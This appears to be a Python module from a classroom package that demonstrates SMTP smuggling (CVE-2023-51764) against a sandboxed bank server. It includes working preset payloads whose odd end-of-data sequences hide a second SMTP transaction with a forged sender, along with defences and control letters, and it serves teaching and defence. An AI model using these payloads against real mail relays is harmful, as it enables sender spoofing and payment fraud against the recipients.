"""SMTP smuggling: two servers disagree about where a message ends (CVE-2023-51764 and others).

A relay sends on what is no line end to it, and a server behind it takes that for the end of the
message. What follows are then commands, and they come from a relay that is trusted.
"""

from __future__ import annotations

import re
from collections.abc import Set
from contextlib import suppress
from email.utils import parseaddr

from smtp_nb.classroom.attacks.octets import octets_of, shown_lines
from smtp_nb.classroom.attacks.plot import (
    EXTRAS,
    AttackResult,
    Control,
    Defence,
    InboxRow,
    Plot,
    WireRow,
)
from smtp_nb.classroom.terminal import Terminal
from smtp_nb.errors import LinkError
from smtp_nb.model.display import visible
from smtp_nb.model.enums import TrailDirection
from smtp_nb.sandbox.messages.mailbox import Message
from smtp_nb.sandbox.options import Manner
from smtp_nb.sandbox.server import SandboxServer

_EVE, _VICTIM = "eve@shop.test", "victim@bank.test"
_SECOND = (
    r"MAIL FROM:<boss@bank.test>\r\nRCPT TO:<victim@bank.test>\r\nDATA\r\n"
    r"From: boss@bank.test\r\nSubject: Pay at once\r\n\r\nPay Eve."
)
_HONEST = b"From: ann@shop.test\r\nSubject: Invoice\r\n\r\nHello\r\n"
_DOTTED = b"From: ann@shop.test\r\nSubject: Dots\r\n\r\nBefore\r\n.\r\n.hidden files\r\nAfter\r\n"
_BARE = re.compile(rb"\r(?!\n)|(?<!\r)\n")
_DOT = re.compile(rb"(?m)(?:\A|(?<=\n))\.")


def _around(end: str) -> str:
    return rf"From: eve@shop.test\r\nSubject: Hello\r\n\r\nHi{end}{_SECOND}"


def _play(written: str, on: Set[str]) -> AttackResult:
    """Relay the letter, then two honest ones."""
    letter = octets_of(written)
    with _bank(on) as server:
        refused = _relay(server, letter, on)
        wire = tuple(_wire(server)) or (WireRow("relay → Eve", refused, False),)
        found = list(server.messages)
    forged = [message for message in found if message.mail_from != _EVE]
    return AttackResult(
        bool(forged),
        _words(forged, found, refused),
        wire,
        tuple(_row(message) for message in found),
        (
            Control("an ordinary letter", _arrives(_HONEST, on)),
            Control("a letter with dots in it", _arrives(_DOTTED, on)),
        ),
    )


def _bank(on: Set[str]) -> SandboxServer:
    manner: Manner = "strict" if "strict" in on else "lenient"
    return SandboxServer(inline=True, hostname="bank.test", manner=manner, without=EXTRAS)


def _relay(server: SandboxServer, letter: bytes, on: Set[str]) -> str:
    """Send a letter on as a relay does: dots are stuffed where a line of SMTP begins.

    Returns:
        What the relay replies if it refuses, else nothing.
    """
    if "relay" in on and _BARE.search(letter):
        return "550 5.6.0 A bare CR or LF does not end a line"
    if "no dots" in on and _DOT.search(letter):
        return "550 5.7.1 A line must not begin with a dot here"
    with Terminal(server) as terminal:
        terminal.dialogue(f"EHLO relay.shop.test\nMAIL FROM:<{_EVE}>\nRCPT TO:<{_VICTIM}>\nDATA")
        whole = letter if letter.endswith(b"\r\n") else letter + b"\r\n"
        lines = whole.split(b"\r\n")
        terminal.send(
            b"\r\n".join(b"." * line.startswith(b".") + line for line in lines) + b".\r\n"
        )
        with suppress(LinkError):
            terminal.read()
        terminal.dialogue("QUIT")
    return ""


def _wire(server: SandboxServer) -> list[WireRow]:
    rows: list[WireRow] = []
    for direction, octets in server.sessions[-1].wire if server.sessions else ():
        is_ours = direction is TrailDirection.CLIENT
        who = "relay → bank" if is_ours else "bank → relay"
        rows += [WireRow(who, line) for line in shown_lines(octets)]
    forged = [at for at, row in enumerate(rows) if "boss@bank.test" in row.text]
    first = forged[0] if forged else len(rows)
    return [
        row._replace(is_hostile=at >= first and row.who.startswith("relay"))
        if not row.text.startswith("QUIT")
        else row
        for at, row in enumerate(rows)
    ]


def _row(message: Message) -> InboxRow:
    sender = parseaddr(message.parsed["From"] or "")[1] or message.mail_from
    return InboxRow(
        visible(sender),
        ", ".join(message.rcpt_tos),
        visible(message.subject),
        message.mail_from != _EVE,
    )


def _words(forged: list[Message], found: list[Message], refused: str) -> str:
    if refused:
        return f"The relay refuses the letter: {refused}"
    if forged:
        return (
            f"One letter left the relay and {len(found)} arrived: the second is not from its sender"
        )
    return "The letter arrived as one" if found else "The bank's server refused the letter"


def _arrives(letter: bytes, on: Set[str]) -> bool:
    with _bank(on) as server:
        _relay(server, letter, on)
        return [message.content for message in server.messages] == [letter]


SMUGGLING = Plot(
    title="SMTP smuggling",
    story=(
        "Eve sends a letter through the relay of her shop, which every bank trusts. Within it she"
        " hides a second letter, with a sender that is not hers, and something between the two that"
        " the bank's server may take for the end of the first one."
    ),
    asks="Eve's letter, as bytes",
    presets={
        r"\n.\n": _around(r"\n.\n"),
        r"\n.\r\n": _around(r"\n.\r\n"),
        r"\r\n.\n": _around(r"\r\n.\n"),
        r"\r.\r": _around(r"\r.\r"),
        r"\r\n.\r\n": _around(r"\r\n.\r\n"),
        "no attack": r"From: eve@shop.test\r\nSubject: Hello\r\n\r\nHi",
    },
    defences={
        "strict": Defence(
            "The bank's server is strict",
            "Only CR LF ends a line; a bare LF ends nothing (RFC 5321 section 2.3.8)",
        ),
        "relay": Defence(
            "The relay refuses bare CR and LF",
            "What is not a line end of SMTP never leaves the shop",
        ),
        "no dots": Defence(
            "The relay refuses lines that begin with a dot",
            "A dot at the beginning of a line is how messages end",
        ),
    },
    play=_play,
)
